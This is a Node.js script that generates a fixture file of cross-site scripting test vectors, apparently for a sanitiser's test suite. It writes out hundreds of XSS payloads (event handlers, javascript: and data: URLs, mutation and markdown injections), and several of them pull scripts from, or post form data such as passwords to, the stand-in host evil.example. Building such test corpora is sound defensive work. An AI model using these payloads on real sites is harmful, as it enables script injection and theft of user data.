// Makes the collection of attacks: tests/fixtures/xss.txt, one a line, the same at every run.
//
//   node vectors.mjs > ../fixtures/xss.txt
//
// What a line cannot hold is escaped: \n \r \t \0 \\ and \u{..}. Each tries to run alert(1), to load
// something from evil.example, or to look like a part of the page.
const out = new Set();
const add = (...lines) => lines.forEach((line) => out.add(line));

// The first ones, which the sanitiser was built against.
add(...String.raw`<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</script>
<img src=x onerror=alert(1)>
<img alt='"><script>alert(1)</script>' src=x>
<img alt='<img alt="<svg onload=alert(1)>">' src=x>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example">x</a>
<a href="https://ok.example/" onclick="alert(1)" style="position:fixed" id=a class=b target=_top>x</a>
<p style="background:url(javascript:alert(1))">x</p>
<div style="width:expression(alert(1))">x</div>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<form action="https://evil.example"><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<body onload=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><script>alert(1)</script></template>
<select><selectedcontent></selectedcontent><option><img src=x onerror=alert(1)></option></select>
<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?xml <script>?>`.split('\n'));

// Tags that run by themselves or nearly, with handlers, in the spellings that parsers disagree about.
const tags = {
  img: ['src=x', 'onerror'], svg: ['', 'onload'], body: ['', 'onload'], video: ['src=x', 'onerror'], audio: ['src=x', 'onerror'],
  input: ['autofocus', 'onfocus'], select: ['autofocus', 'onfocus'], textarea: ['autofocus', 'onfocus'], details: ['open', 'ontoggle'],
  marquee: ['', 'onstart'], iframe: ['src=/', 'onload'], object: ['data=x', 'onerror'], link: ['rel=stylesheet href=x', 'onerror'],
  style: ['', 'onload'], a: ['href=#x id=x tabindex=1', 'onfocus'], div: ['style=animation:x contenteditable', 'onanimationstart'], p: ['tabindex=1 autofocus', 'onfocus'],
  dialog: ['open', 'ontoggle'], button: ['popovertarget=x autofocus', 'onfocus'], embed: ['src=x', 'onerror'], math: ['', 'onclick'], xss: ['contenteditable autofocus', 'onfocus'],
};
for (const [tag, [attributes, handler]] of Object.entries(tags)) {
  add(`<${tag} ${attributes} ${handler}=alert(1)>`);
  add(`<${tag.toUpperCase()} ${attributes} ${handler.toUpperCase()}="alert(1)">`);
  add(`<${tag}/${attributes.replaceAll(' ', '/')}/${handler}='alert(1)'//>`);
  add(`<${tag}\t${attributes}\n${handler}\u000c=\r\`\`alert(1)//>`);
  add(`"><${tag} ${attributes} ${handler}=alert\`1\`>`);
  add(`<${tag} ${attributes} ${handler}=&#97;&#x6c;ert&lpar;1&rpar;`);
}
const handlers = ['onclick', 'onmouseover', 'onpointerrawupdate', 'onauxclick', 'onbeforetoggle', 'oncontentvisibilityautostatechange',
  'onscrollend', 'onsecuritypolicyviolation', 'ontransitionrun', 'onwebkitanimationstart', 'onbeforeinput', 'oncopy', 'onpaste', 'ondrag',
  'onformdata', 'oninvalid', 'onsearch', 'onwheel', 'onhashchange', 'onpopstate'];
for (const handler of handlers) {
  add(`<a href=https://ok.example/ ${handler}=alert(1)>x</a>`, `<p ${handler}="alert(1)">x</p>`, `" ${handler}="alert(1)`, `' ${handler}='alert(1)' x='`);
}

// Addresses that are scripts, in every place an address may stand.
const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
  '&#106;avascript:alert(1)', '&#x6A&#x61vascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript:%61lert(1)', 'javascript://ok.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>',
  'vbscript:alert(1)', 'blob:https://ok.example/x', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'javascript\u200b:alert(1)', '\u00a0javascript:alert(1)'];
const places = [(u) => `<a href="${u}">x</a>`, (u) => `[x](${u})`, (u) => `<${u}>`];
for (const scheme of schemes) places.forEach((place) => add(place(scheme)));
const addresses = ['<iframe src="@">', '<iframe srcdoc="<script>alert(1)</script>" src="@">', '<form action="@"><input type=submit autofocus>', '<button formaction="@">x</button>',
  '<object data="@">', '<embed src="@">', '<base href="@">', '<meta http-equiv=refresh content="0;url=@">', '<area href="@" shape=default>', '<svg><a xlink:href="@"><text y=9>x</text></a></svg>',
  '<svg><use href="@"/></svg>', '<svg><animate attributeName=href values="@"/></svg>', '<svg><image href="@"/></svg>', '<svg><script href="@"/></svg>', '<math href="@">x</math>',
  '<math><maction actiontype=statusline xlink:href="@">x</maction></math>', '<link rel=import href="@">', '<script src="@"></script>', '<img src="@" srcset="@ 2x">', '<video poster="@"><track default src="@">',
  '<table background="@">', '<blockquote cite="@">x</blockquote>', '<del cite="@">x</del>', '<a ping="@" href=https://ok.example/>x</a>', '<a href=https://ok.example/ xlink:href="@">x</a>',
  '![x](@)', '[x]: @\n\n[x]', '<x:a href="@">x</x:a>', '<portal src="@">', '<fencedframe src="@">', '<frameset><frame src="@">', '<isindex action="@">', '<input type=image src="@" formaction="@">'];
for (const place of addresses) ['javascript:alert(1)', '//evil.example/x', 'data:text/html,<script>alert(1)</script>'].forEach((u) => add(place.replaceAll('@', u)));

// Breaking out of where a value stands.
const ends = ['"', "'", '`', '>', '">', "'>", '-->', '--!>', ']]>', '?>', '</p>', '</a>', '</h1>', '</title>', '</style>', '</script>', '</textarea>', '</noscript>', '</template>',
  '</xmp>', '</noembed>', '</iframe>', '</svg>', '</math>', '</select>', '</table>', '</body></html>', '\\"', "\\'", '&quot;>', '&#34;>', '\u0000">', '%22%3E', '\\u0022>', '\ufe64', '\uff1c'];
for (const end of ends) add(`${end}<script>alert(1)</script>`, `x${end}<img src=x onerror=alert(1)>`, `${end} autofocus onfocus=alert(1) x=`);
add(`{"a":"</script><script>alert(1)</script>"}`, `\u2028alert(1)//`, `\u2029alert(1)//`, `';alert(1);//`, `";alert(1);//`, `\\";alert(1);//`, '${alert(1)}', '`${alert(1)}`', `*/alert(1)/*`, `//]]>alert(1)`,
  `<!--<script>`, `<!--<script></script>--><script>alert(1)</script>`, `<!--><img src=x onerror=alert(1)>-->`, `<!---><img src=x onerror=alert(1)>`, `<!--!><img src=x onerror=alert(1)>`, `<!-- --!><img src=x onerror=alert(1)>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml <img src=x onerror=alert(1)>?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.example/">]>&y;`, `</ script><img src=x onerror=alert(1)>`, `</#><img src=x onerror=alert(1)>`);

// Script, split, nested, spelled oddly.
for (const s of ['<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script/x>alert(1)</script x>', '<script\n>alert(1)</script\n>',
  '<script type=module>import("//evil.example/x.js")</script>', '<script type=importmap>{"imports":{"a":"//evil.example/"}}</script>', '<script>alert(1)', '<script src=data:,alert(1)>', '<\u0000script>alert(1)</script>', '<script\u0000>alert(1)</script>',
  '\ufeff<script>alert(1)</script>', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60script&#62alert(1)&#60/script&#62', '%3Cscript%3Ealert(1)%3C/script%3E', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '\\u003cscript\\u003ealert(1)', '<script>window.__hit=1</script>', '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>', '<ſcript>alert(1)</ſcript>', '<scrİpt>alert(1)</scrİpt>']) add(s);

// Foreign content, namespaces, and what mutates when it is parsed again.
const bait = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<a href=javascript:alert(1)>x</a>'];
const shells = ['<svg><style>@</style></svg>', '<svg><title>@</title></svg>', '<svg><desc>@</desc></svg>', '<svg><foreignObject>@</foreignObject></svg>', '<math><style>@</style></math>', '<math><mi>@</mi></math>',
  '<math><annotation-xml encoding="text/html">@</annotation-xml></math>', '<math><annotation-xml encoding="application/xhtml+xml"><style>@</style></annotation-xml></math>', '<svg></p><style><a id="</style>@">', '<math></p><style><a id="</style>@">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;@">', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>@">', '<svg><p><style><g title="</style>@">', '<noscript><p title="</noscript>@">', '<textarea><p title="</textarea>@">',
  '<title><p title="</title>@">', '<style><p title="</style>@">', '<xmp><p title="</xmp>@">', '<noembed><p title="</noembed>@">', '<noframes><p title="</noframes>@">', '<iframe><p title="</iframe>@">', '<plaintext>@', '<listing>&lt;p title="</listing>@">',
  '<template>@</template>', '<template shadowrootmode=open>@</template>', '<div><template shadowrootmode=open><slot></slot>@</template></div>', '<select><option>@</select>', '<select><button><selectedcontent></selectedcontent></button><option selected>@</select>',
  '<table><td>@</table>', '<table>@</table>', '<table><caption>@', '<a><table><a>@', '<p><a href="https://ok.example/"><p>@', '<b><p><b>@</p></b>', '<svg><a><foreignobject><a>@', '<math><mglyph>@', '<svg><mglyph>@', '<svg><desc><svg><desc>@', '<svg><![CDATA[@]]></svg>', '<math><![CDATA[</math>@]]>',
  '<svg><!--</svg>@-->', '<frameset>@', '<object><param name=x>@</object>', '<video><source>@</video>', '<ruby><rp>@', '<details open><summary>@', '<dialog open>@', '<dl><dt>@', '<img alt="@" src=x>', "<img alt='@' src=x>", '<a title="@">x</a>', '<p title=\'"@\'>', '<p/title="@">'];
for (const shell of shells) bait.forEach((b, n) => { if (n < 2 || shell.length % 3 === 0) add(shell.replace('@', b)); });

// Style, clobbering, forms over the page, refreshes.
add('<style>@import "//evil.example/x.css";</style>', '<style>*{background:url(//evil.example/x)}</style>', '<p style="background:url(//evil.example/x)">x</p>', '<p style="position:fixed;inset:0">x</p>', '<p style="width:expression(alert(1))">x</p>', '<p style=-moz-binding:url(//evil.example/x)>x</p>',
  '<p style="behavior:url(//evil.example/x)">x</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=preload as=script href=//evil.example/x.js>', '<link rel=prefetch href=//evil.example/x>', '<link rel=dns-prefetch href=//evil.example>', '<link rel=manifest href=//evil.example/x>',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<meta http-equiv=set-cookie content="a=b">', '<meta http-equiv=refresh content="0;//evil.example/">', '<meta name=referrer content=unsafe-url>', '<base href=//evil.example/>', '<base target=_top>',
  '<form name=body><input name=firstChild></form>', '<img name=cookie><img id=location>', '<a id=__hit><a id=__hit name=x href=//evil.example/>', '<form action=//evil.example/ id=f><input name=password><input type=submit form=f></form>', '<input type=hidden name=csrf value=x>', '<button form=f formaction=//evil.example/>x</button>',
  '<form><input name=attributes><img src=x onerror=alert(1)></form>', '<img src=//evil.example/x>', '<img srcset=//evil.example/x>', '<picture><source srcset=//evil.example/x></picture>', '<video src=//evil.example/x autoplay>', '<audio src=//evil.example/x autoplay>', '<iframe src=//evil.example/></iframe>', '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x>', '<svg><image href=//evil.example/x /></svg>', '<svg><use href=//evil.example/x#y /></svg>', '<svg><set attributeName=onmouseover to=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><animate attributeName=href to=javascript:alert(1) /></svg>', '<svg><handler>alert(1)</handler></svg>');

// Markdown that turns into more than it says.
add('[x](javascript:alert(1) "t")', '[x](<javascript:alert(1)>)', '[x](<java&#115;cript:alert(1)>)', '[x](javascript&colon;alert(1))', '![x](x "onerror=alert(1)")', '![x"onerror="alert(1)](x)', '[x]("onmouseover="alert(1))', '[x](https://ok.example/"onmouseover="alert(1))', "[x](https://ok.example/'onmouseover='alert(1))",
  '<https://ok.example/"onmouseover=alert(1)>', '<https://ok.example/><script>alert(1)</script>', '<javascript:alert(1)>', '<a@b.example"onclick=alert(1)>', '[x][1]\n\n[1]: javascript:alert(1)', '[1]: data:text/html,<script>alert(1)</script> "t"\n[1]', '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '```"><img src=x onerror=alert(1)>\nx\n```', '``` js onload=alert(1)\nx\n```', '~~~ <script>\nalert(1)\n~~~', '`<img src=x onerror=alert(1)>`', '    <script>alert(1)</script>', '> <script>alert(1)</script>', '- <script>alert(1)</script>', '# <script>alert(1)</script>', '<div\nonclick=alert(1)>', '<div>\n\n<script>\n\nalert(1)\n\n</script>', '*<img src=x\nonerror=alert(1)>*',
  '\\<script>alert(1)\\</script>', '&lt;img src=x onerror=alert(1)&gt;', '[![x](x)](javascript:alert(1))', '[<img src=x onerror=alert(1)>](https://ok.example/)', '<!-- [x](javascript:alert(1)) --><img src=x onerror=alert(1)>', 'https://ok.example/<script>alert(1)</script>', 'www.evil.example/"onclick="alert(1)', '[x](vbscript:alert(1))', '[x](//evil.example/)', '[x](\\\\evil.example/)', '[x](/sign-out)', '<details open><summary>\n\n![x](javascript:alert(1))');

// Directions, invisible characters, lengths, names that are not names.
add('\u202ealert(1)\u202c', '\u2066<script>\u2069alert(1)', '\u202e</title><script>alert(1)</script>', '<a href="https://ok.example/\u202egpj.exe">x</a>', 'a\u0000<script>alert(1)</script>', '<a href="https://\u043e\u043a.example/">x</a>', '<a href="https://ok.example\u2044.evil.example/">x</a>', '<a href="https://ok.example@evil.example/">x</a>',
  '<a href="https:evil.example">x</a>', '<a href="https:///evil.example">x</a>', '<a href="http:\\\\evil.example">x</a>', '<a href=https://ok.example/\u3000onclick=alert(1)>x</a>', '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>', '<a href="mailto:a@b.example?body=%3Cscript%3E">x</a>', '<a href="mailto:x\u0022onclick=alert(1)">x</a>', '<a target=_blank rel=opener href=https://ok.example/>x</a>',
  '<a href="https://ok.example/" download=x.html>x</a>', '<a href="?lang=en&x=<script>alert(1)</script>">x</a>', '<a href="#main">x</a>', '../../sign-out', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '{{constructor.constructor("alert(1)")()}}', '<%= alert(1) %>', '{% raw %}<script>alert(1)</script>', '[[${alert(1)}]]', '#{alert(1)}',
  '<p is=x-y onclick=alert(1)>', '<p slot=x part=y nonce=z>', '<x onclick=alert(1)>x</x>', '<p onclick onclick=alert(1)>x', '<p "onclick=alert(1)">x', '<p x=">" onclick=alert(1)>x', "<p x='>' onclick=alert(1)>x", '<p x=`>` onclick=alert(1)>x', '<p x=a&#32;onclick=alert(1)>x', '<p x="&#34; onclick=alert(1) y=&#34;">x', '<p\u0000onclick=alert(1)>x', '<p\u000bonclick=alert(1)>x', '<p\u00a0onclick=alert(1)>x', '<a\u2003href=javascript:alert(1)>x</a>',
  '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>', '<input accesskey=x onclick=alert(1) type=hidden>', '<link rel=canonical accesskey=x onclick=alert(1)>', '<label for=main onclick=alert(1)>x</label>', '<main id=main>x</main>', '<h1>x</h1><h1 id=main onfocus=alert(1) tabindex=1>');

const shown = (text) => [...text.replaceAll('\\', '\\\\')].map((c) => ({ '\n': '\\n', '\r': '\\r', '\t': '\\t', '\0': '\\0' })[c]
  ?? (/[\u0001-\u001f\u007f-\u00a0\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u206f\u3000\ufeff\u2003]/.test(c) ? `\\u{${c.codePointAt(0).toString(16)}}` : c)).join('');
console.log([...out].map(shown).join('\n'));
